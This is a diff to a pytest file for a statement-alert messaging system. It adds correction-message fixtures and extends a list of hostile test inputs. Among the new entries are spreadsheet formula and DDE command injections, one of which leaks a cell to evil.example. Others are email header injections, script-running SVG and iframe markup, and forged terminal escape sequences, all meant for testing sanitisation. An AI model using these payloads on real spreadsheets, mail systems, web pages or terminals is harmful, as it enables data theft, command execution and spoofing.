@@ -16,12 +16,14 @@ from alerts.message import (
     AlertMessage,
     BriefingMessage,
     CheckMessage,
+    CorrectionMessage,
+    CorrectionsMessage,
     DigestMessage,
     Move,
     SummaryMessage,
     TroubledFeed,
 )
-from ingest.model import Report, Statement
+from ingest.model import Correction, Report, Statement
 
 WORDS = "We will not sign before the audit is finished, and no newspaper will hurry us."
 LATER = "We will sign on Friday, once the audit is finished, and no newspaper will hurry us. The board has agreed."
@@ -60,6 +62,29 @@ HOSTILE = {
     "tag characters": "hidden\U000e0041\U000e0042",
     "long word": "x" * 100_000,
     "long escape": "&" * 20_000,
+    "spreadsheet formula": '=HYPERLINK("https://evil.example?x="&A1,"more")',
+    "spreadsheet command": "+cmd|' /C calc'!A0",
+    "spreadsheet sum": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "spreadsheet minus": "-2+3+cmd|' /C calc'!A0",
+    "full-width formula": "＝1+1",
+    "formula behind a line break": "\n=1+1",
+    "encoded header": "=?utf-8?B?SGVsbG8NCkJjYzogYUBiLmV4YW1wbGU=?=",
+    "percent-encoded header": "Hello%0d%0aBcc: everyone@evil.example",
+    "mime boundary": "--==boundary==\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
+    "scalable vector": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
+    "comment and section": "<!-- x --><![CDATA[<b>]]><?php echo 1 ?>",
+    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "frame": "<iframe src='javascript:alert(1)'></iframe><form action=//evil.example><input></form>",
+    "encoded script": "&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x&gt;",
+    "markdown autolink": "<https://evil.example/login> <mailto:a@evil.example>",
+    "markdown table": "a | b\n--- | ---\n1 | 2",
+    "markdown fence": "```\ncode\n``` ~~~ ---",
+    "emoji flood": "😀🇺🇳👍🏽" * 500,
+    "combining flood": "Z" + "\u0301\u0489" * 4000,
+    "lone low surrogate": "a\udc00\udfffb",
+    "hyperlink escape": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
+    "title escape": "\x1b]0;forged title\x07\x1b[2J\x1b[H",
+    "byte order and annotation": "\ufeff\ufff9a\ufffab\ufffb",
     "forged frame": "── New statement ─────\nSomebody Else\n",
 }
 
@@ -230,12 +255,46 @@ def digest(new_statement: AlertMessage, update: AlertMessage) -> DigestMessage:
 
 
 @pytest.fixture
+def correction(new_statement: AlertMessage) -> CorrectionMessage:
+    """A person said who it was instead."""
+    return CorrectionMessage(
+        kind="correction",
+        watch="lindhaven-port",
+        statement=replace(new_statement.statement, reports=()),
+        correction=Correction(
+            wrong="speaker",
+            text=WORDS,
+            speaker="Mara Velden",
+            quoted=True,
+            url="https://www.harbourpost.example/politics/velden-audit",
+            source="Harbour Post",
+            now_by="Ilka Moor",
+        ),
+        subject="statement:12:0f",
+        told_at=datetime(2026, 3, 14, 9, 20, tzinfo=UTC),
+        reason="a person decided so",
+    )
+
+
+@pytest.fixture
+def corrections(correction: CorrectionMessage, update: AlertMessage) -> CorrectionsMessage:
+    """That one, and words that were read again."""
+    words = replace(correction.correction, wrong="words", now_by=None)
+    other = replace(
+        correction, statement=update.statement, correction=words, reason="the article was read again", subject="x"
+    )
+    return CorrectionsMessage(watch="lindhaven-port", subject="corrections:7", corrections=(correction, other))
+
+
+@pytest.fixture
 def check() -> CheckMessage:
     """A test message."""
     return CheckMessage(channel="desk", at=datetime(2026, 3, 15, 9, tzinfo=UTC))
 
 
-@pytest.fixture(params=["new_statement", "update", "briefing", "summary", "digest", "check"])
+@pytest.fixture(
+    params=["new_statement", "update", "briefing", "correction", "corrections", "summary", "digest", "check"]
+)
 def message(request: pytest.FixtureRequest) -> Any:
     """Each kind of message."""
     return request.getfixturevalue(request.param)
